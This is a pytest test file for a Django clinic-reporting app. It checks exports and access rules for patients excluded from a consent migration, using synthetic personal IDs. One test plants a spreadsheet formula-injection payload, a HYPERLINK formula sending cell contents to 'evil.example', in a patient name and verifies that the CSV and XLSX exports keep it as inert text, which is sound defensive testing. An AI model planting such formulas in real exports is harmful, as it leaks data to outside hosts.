"""The per-clinic migration-exclusion report (rules 3.7, 3.8; contract 5)."""

from __future__ import annotations

import io
from pathlib import Path
from typing import Any

import pytest
from django.http import StreamingHttpResponse
from django.test import Client
from openpyxl import load_workbook

from bookings.services import patient_sync
from consent import seed
from consent.legacy_import import legacy_consents_import
from consent.models import MigrationExclusion
from consent.services import consent_activate
from core.staff import Role
from reporting.left_out import exclusion_table
from tests.factories import ClinicFactory, UserFactory
from tests.pages import seen

pytestmark = pytest.mark.django_db


def test_seed_export_blocks_each_clinic_exactly_as_in_the_routine() -> None:
    sets = seed.blocked_sets(dict(seed.EXCLUDED_PER_CLINIC), pairs=1500)
    counted: dict[str, int] = {}
    for blocked in sets:
        assert len(set(blocked)) == len(blocked)
        for clinic in blocked:
            counted[clinic] = counted.get(clinic, 0) + 1
    assert counted == dict(seed.EXCLUDED_PER_CLINIC)
    assert sum(len(b) == 2 for b in sets) == 1500  # residents counted at two clinics


@pytest.mark.slow
def test_importing_the_seed_export_gives_the_routine_s_table(tmp_path: Path) -> None:
    clinics = {name: ClinicFactory(name=name) for name, _ in seed.EXCLUDED_PER_CLINIC}
    text = seed.legacy_export({n: c.hsa_id for n, c in clinics.items()})
    result = legacy_consents_import(
        lines=text.splitlines(keepends=True), file_name="seed", dry_run=False
    )
    assert result.errors == []
    table = [
        (r.clinic.name, r.excluded)
        for r in exclusion_table(clinics["Kirurgikliniken"].__class__.objects.all())
    ]
    assert table == seed.EXCLUDED_PER_CLINIC  # same counts, same ranking


@pytest.fixture
def world(tmp_path: Path) -> dict[str, Any]:
    a, b = ClinicFactory(name="A-kliniken"), ClinicFactory(name="B-kliniken")
    lines = [seed.HEADER + "\n"]
    pids = ["19500101-0007", "19600202-0006", "19700303-0005", "19800404-0004"]
    from datetime import date

    from bookings.identity import personal_id_for

    pids = [personal_id_for(date(1950 + 10 * i, 1 + i, 1 + i), 300 + i) for i in range(4)]
    lines += [
        f"{pids[0]};0701111111;ja;{a.hsa_id};2024-01-10\n",
        f"{pids[1]};0702222222;ja;{a.hsa_id},{b.hsa_id};2024-01-10\n",  # counts at both
        f"{pids[2]};0703333333;nej;{b.hsa_id};2024-01-10\n",
        f"{pids[3]};0704444444;ja;{a.hsa_id};2024-01-10\n",  # becomes protected
    ]
    legacy_consents_import(lines=lines, file_name="t", dry_run=False)
    protected = MigrationExclusion.objects.get(patient__personal_id=pids[3]).patient
    patient_sync(
        personal_id=protected.personal_id,
        given_name="Hemlig",
        family_name="Person",
        protected_identity=True,
        mobile_number=None,
        sms_consent_1177=False,
        guardians=[],
    )
    caught = MigrationExclusion.objects.get(patient__personal_id=pids[0]).patient
    consent_activate(patient=caught, actor=None, channel="arrival_desk", handled_at_clinic=a)
    users = {
        "manager_a": UserFactory(role=Role.MANAGER, clinics=[a]),
        "admin": UserFactory(role=Role.REGIONAL_ADMIN),
        "reception": UserFactory(role=Role.RECEPTION, clinics=[a]),
        "auditor": UserFactory(role=Role.AUDITOR),
    }
    return {"a": a, "b": b, "pids": pids, "protected": protected, "users": users}


def client(user: Any) -> Client:
    c = Client()
    c.force_login(user)
    return c


def test_ranked_table_counts_a_patient_at_each_blocked_clinic(world: dict[str, Any]) -> None:
    response = client(world["users"]["admin"]).get("/reports/migration-exclusions.csv")
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[arg-type]
    assert text.splitlines() == [
        "HSA-id;Mottagning;Flyttades inte över;Aktiverade sedan",
        f"{world['a'].hsa_id};A-kliniken;3;1",
        f"{world['b'].hsa_id};B-kliniken;2;0",
    ]


def test_manager_sees_only_their_clinics(world: dict[str, Any]) -> None:
    manager = client(world["users"]["manager_a"])
    page = manager.get("/reports/migration-exclusions/").content.decode()
    assert "A-kliniken" in page and "B-kliniken" not in page
    csv_text = b"".join(manager.get("/reports/migration-exclusions.csv").streaming_content)
    assert b"B-kliniken" not in csv_text
    b = world["b"].hsa_id
    for suffix in ("/", ".csv", ".xlsx"):
        assert manager.get(f"/reports/migration-exclusions/{b}{suffix}").status_code == 403


@pytest.mark.parametrize("who", ["reception", "auditor"])
def test_reports_are_for_managers_and_regional_admins(world: dict[str, Any], who: str) -> None:
    assert seen(client(world["users"][who]).get("/reports/migration-exclusions/")) == "refused"


def test_clinic_list_shows_blocked_clinics_and_activation_and_hides_protected(
    world: dict[str, Any],
) -> None:
    manager = client(world["users"]["manager_a"])
    a = world["a"].hsa_id
    page = manager.get(f"/reports/migration-exclusions/{a}/").content.decode()
    pid0, pid1, _, pid3 = world["pids"]
    assert f"{pid0[:8]}-{pid0[8:]}" in page and f"{pid1[:8]}-{pid1[8:]}" in page
    assert "A-kliniken, B-kliniken" in page
    assert "Dessutom 1 patient med skyddad identitet" in page
    assert pid3[:8] not in page and "Hemlig" not in page

    text = b"".join(manager.get(f"/reports/migration-exclusions/{a}.csv").streaming_content)
    rows = text.decode("utf-8-sig").splitlines()
    assert rows[0] == (
        "Personnummer;Namn;Blockerade mottagningar;Nästa bokade kontakt här;Aktiverad sedan"
    )
    assert rows[1] == f"{pid0[:8]}-{pid0[8:]};;A-kliniken;;ja"
    assert rows[2] == f"{pid1[:8]}-{pid1[8:]};;A-kliniken, B-kliniken;;nej"
    assert rows[3].startswith("Dessutom 1 med skyddad identitet")
    assert pid3[:8] not in text.decode()

    xlsx = manager.get(f"/reports/migration-exclusions/{a}.xlsx")
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    book = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)), read_only=True)
    values = [list(row) for row in book.active.iter_rows(values_only=True)]
    assert values[0] == [
        "Personnummer",
        "Namn",
        "Blockerade mottagningar",
        "Nästa bokade kontakt här",
        "Aktiverad sedan",
    ]
    assert (values[1][0], values[1][2], values[1][4]) == (
        f"{pid0[:8]}-{pid0[8:]}",
        "A-kliniken",
        "ja",
    )
    assert (values[2][0], values[2][2], values[2][4]) == (
        f"{pid1[:8]}-{pid1[8:]}",
        "A-kliniken, B-kliniken",
        "nej",
    )
    assert not any(pid3[:8] in str(cell) for row in values for cell in row if cell)
    assert len(values) == 4  # header, two patients, the protected count


def test_next_booked_contact_at_the_clinic_is_shown(world: dict[str, Any]) -> None:
    from datetime import timedelta

    from django.utils import timezone

    from bookings.models import Patient
    from bookings.services import appointment_upsert

    patient = Patient.objects.get(personal_id=world["pids"][1])
    start = timezone.now() + timedelta(days=3)
    appointment_upsert(
        external_id="R1",
        patient=patient,
        clinic=world["a"],
        starts_at=start,
        status="booked",
        contact_type="visit",
    )
    page = (
        client(world["users"]["admin"])
        .get(f"/reports/migration-exclusions/{world['a'].hsa_id}/")
        .content.decode()
    )
    assert timezone.localtime(start).strftime("%Y-%m-%d %H:%M") in page


def test_caught_since_counts_asked_and_activated_per_clinic_and_week(world: dict[str, Any]) -> None:
    from datetime import timedelta

    from django.utils import timezone

    from bookings.models import Patient
    from bookings.services import appointment_upsert
    from consent.desk.services import arrival_register

    patient = Patient.objects.get(personal_id=world["pids"][1])  # left out at A and B
    appointment = appointment_upsert(
        external_id="W1",
        patient=patient,
        clinic=world["a"],
        starts_at=timezone.now() + timedelta(minutes=30),
        status="booked",
        contact_type="visit",
    )[0]
    arrival_register(
        appointment_id=appointment.pk,
        actor=world["users"]["reception"],
        outcome="activated",
        at=world["a"],
    )
    response = client(world["users"]["manager_a"]).get("/reports/caught-since/?format=csv")
    rows = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    week = timezone.localdate() - timedelta(days=timezone.localdate().weekday())
    # at A: pids[0] activated in the fixture, pids[1] asked and activated here
    assert rows == [
        "HSA-id;Mottagning;Vecka (måndag);Tillfrågade vid ankomst;Aktiverade",
        f"{world['a'].hsa_id};A-kliniken;{week.isoformat()};1;2",
    ]
    # and the weekly line over all the manager's clinics
    page = client(world["users"]["manager_a"]).get("/reports/caught-since/").content.decode()
    iso = week.isocalendar()
    assert f'{{"weeks": ["v. {iso.week} {iso.year}"], "asked": [1], "activated": [2]}}' in page


def test_an_activation_undone_at_the_desk_is_neither_asked_nor_activated(
    world: dict[str, Any],
) -> None:
    from datetime import timedelta

    from django.utils import timezone

    from bookings.models import Patient
    from bookings.services import appointment_upsert
    from consent.desk.services import arrival_register, desk_undo

    patient = Patient.objects.get(personal_id=world["pids"][1])  # left out at A and B
    appointment = appointment_upsert(
        external_id="W2",
        patient=patient,
        clinic=world["a"],
        starts_at=timezone.now() + timedelta(minutes=30),
        status="booked",
        contact_type="visit",
    )[0]
    common = {"actor": world["users"]["reception"], "at": world["a"]}
    arrival_register(**common, appointment_id=appointment.pk, outcome="activated")
    appointment.refresh_from_db()
    desk_undo(**common, appointment=appointment)
    response = client(world["users"]["manager_a"]).get("/reports/caught-since/?format=csv")
    rows = b"".join(response.streaming_content).decode("utf-8-sig").splitlines()
    week = timezone.localdate() - timedelta(days=timezone.localdate().weekday())
    # at A: only pids[0], activated in the fixture; the wrong row counts for nothing
    assert rows[1:] == [f"{world['a'].hsa_id};A-kliniken;{week.isoformat()};0;1"]


def test_ranked_table_counts_are_kept_until_the_refresh(world: dict[str, Any]) -> None:
    from bookings.models import Patient
    from reporting.tasks import refresh_dashboard

    admin = client(world["users"]["admin"])
    before = b"".join(admin.get("/reports/migration-exclusions.csv").streaming_content)
    consent_activate(
        patient=Patient.objects.get(personal_id=world["pids"][1]), actor=None, channel="phone"
    )
    assert b"".join(admin.get("/reports/migration-exclusions.csv").streaming_content) == before
    refresh_dashboard()
    after = b"".join(admin.get("/reports/migration-exclusions.csv").streaming_content)
    assert after.decode("utf-8-sig").splitlines()[1:] == [
        f"{world['a'].hsa_id};A-kliniken;3;2",
        f"{world['b'].hsa_id};B-kliniken;2;1",
    ]


def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_xlsx(
    world: dict[str, Any],
) -> None:
    from bookings.models import Patient

    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka")'
    Patient.objects.filter(personal_id=world["pids"][0].replace("-", "")).update(
        given_name="", family_name=evil
    )
    Patient.objects.filter(personal_id=world["pids"][1].replace("-", "")).update(
        given_name="@SUM(1+1)", family_name="-2+3"
    )
    manager = client(world["users"]["manager_a"])
    a = world["a"].hsa_id
    text = b"".join(manager.get(f"/reports/migration-exclusions/{a}.csv").streaming_content)
    import csv

    rows = list(csv.reader(text.decode("utf-8-sig").splitlines(), delimiter=";"))
    assert {row[1] for row in rows[1:3]} == {"'" + evil, "'@SUM(1+1) -2+3"}

    from openpyxl import load_workbook

    xlsx = manager.get(f"/reports/migration-exclusions/{a}.xlsx")
    book = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))
    cells = [row[1] for row in book.active.iter_rows(min_row=2, max_row=3)]
    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula
    assert {cell.value for cell in cells} == {"'" + evil, "'@SUM(1+1) -2+3"}


def test_the_second_view_lists_those_booked_here_soon_whatever_they_blocked(
    world: dict[str, Any],
) -> None:
    """rules 3.8: excluded residents (for any block) with a booked contact at B in the
    coming weeks, soonest first; CSV and XLSX hold the same list."""
    from datetime import timedelta
    from io import BytesIO

    from django.utils import timezone
    from openpyxl import load_workbook

    from bookings.models import Patient
    from bookings.services import appointment_upsert

    def book(pid: str, ext: str, days: float, clinic: Any) -> None:
        appointment_upsert(
            external_id=ext,
            patient=Patient.objects.get(personal_id=pid),
            clinic=clinic,
            starts_at=timezone.now() + timedelta(days=days),
            status="booked",
            contact_type="visit",
        )

    b = world["b"]
    book(world["pids"][0], "S1", 10, b)  # blocked A only, booked at B: listed
    book(world["pids"][1], "S2", 2, b)  # blocked A and B: listed first (soonest)
    book(world["pids"][2], "S3", 60, b)  # too far ahead: not yet
    book(world["pids"][3], "S4", 1, b)  # protected: counted, never shown
    admin = client(world["users"]["admin"])
    page = admin.get(f"/reports/migration-exclusions/{b.hsa_id}/?vy=bokade").content.decode()
    first, second = world["pids"][1], world["pids"][0]
    shown = [f"{p[:8]}-{p[8:]}" for p in world["pids"]]
    assert page.index(shown[1]) < page.index(shown[0])  # soonest contact first
    assert shown[2] not in page and shown[3] not in page
    assert "Dessutom 1 patient med skyddad identitet" in page
    # The first view of B is still those who had blocked B.
    blocked_view = admin.get(f"/reports/migration-exclusions/{b.hsa_id}/").content.decode()
    assert shown[1] in blocked_view and shown[0] not in blocked_view

    csv = admin.get(f"/reports/migration-exclusions/{b.hsa_id}.csv?vy=bokade")
    lines = b"".join(csv.streaming_content).decode("utf-8-sig").splitlines()
    assert [line.split(";")[0] for line in lines[1:3]] == [
        f"{first[:8]}-{first[8:]}",
        f"{second[:8]}-{second[8:]}",
    ]
    xlsx = admin.get(f"/reports/migration-exclusions/{b.hsa_id}.xlsx?vy=bokade")
    sheet = load_workbook(BytesIO(b"".join(xlsx.streaming_content))).active
    assert [row[0] for row in sheet.iter_rows(min_row=2, max_row=3, values_only=True)] == [
        f"{first[:8]}-{first[8:]}",
        f"{second[:8]}-{second[8:]}",
    ]


def test_a_clinic_above_its_2023_no_show_rate_is_flagged_on_the_ranked_table(
    world: dict[str, Any],
) -> None:
    from datetime import timedelta
    from decimal import Decimal

    from django.utils import timezone

    from bookings.models import Appointment, Patient
    from reporting.models import NoShowBaseline

    patient = Patient.objects.get(personal_id=world["pids"][0])
    for n in range(10):  # 3 of 10 missed in the last four weeks: 30 % against 10 %
        Appointment.objects.create(
            external_id=f"N{n}",
            patient=patient,
            clinic=world["a"],
            starts_at=timezone.now() - timedelta(days=5),
            booked_at=timezone.now() - timedelta(days=20),
            status="no_show" if n < 3 else "completed",
        )
    NoShowBaseline.objects.create(clinic=world["a"], year=2023, rate=Decimal("0.1000"))
    NoShowBaseline.objects.create(clinic=world["b"], year=2023, rate=Decimal("0.1000"))
    page = client(world["users"]["admin"]).get("/reports/migration-exclusions/").content.decode()
    row_a = page[page.index(f'id="clinic-{world["a"].hsa_id}"') :].split("</tr>")[0]
    row_b = page[page.index(f'id="clinic-{world["b"].hsa_id}"') :].split("</tr>")[0]
    assert "30,0\xa0%" in row_a and "Över 2023" in row_a
    assert "Över 2023" not in row_b  # no contacts lately: nothing to flag


def test_the_xlsx_opens_with_a_frozen_filtered_bold_header_and_readable_columns(
    world: dict[str, Any],
) -> None:
    a = world["a"].hsa_id
    manager = client(world["users"]["manager_a"])
    xlsx = manager.get(f"/reports/migration-exclusions/{a}.xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:E{sheet.max_row}"
    assert sheet["A1"].font.b and not sheet["A2"].font.b
    widths = [sheet.column_dimensions[c].width for c in "ABCDE"]
    assert widths == [15, 28, 45, 22, 15]


def test_the_drill_down_names_each_resident_with_a_link_to_their_page(
    world: dict[str, Any],
) -> None:
    from bookings.models import Patient

    page = client(world["users"]["manager_a"]).get(
        f"/reports/migration-exclusions/{world['a'].hsa_id}/"
    )
    content = page.content.decode()
    patient = Patient.objects.get(personal_id=world["pids"][0])
    name = patient.full_name or "Namn saknas"
    assert f'<a href="/patients/{patient.page_key}/">{name}</a>' in content
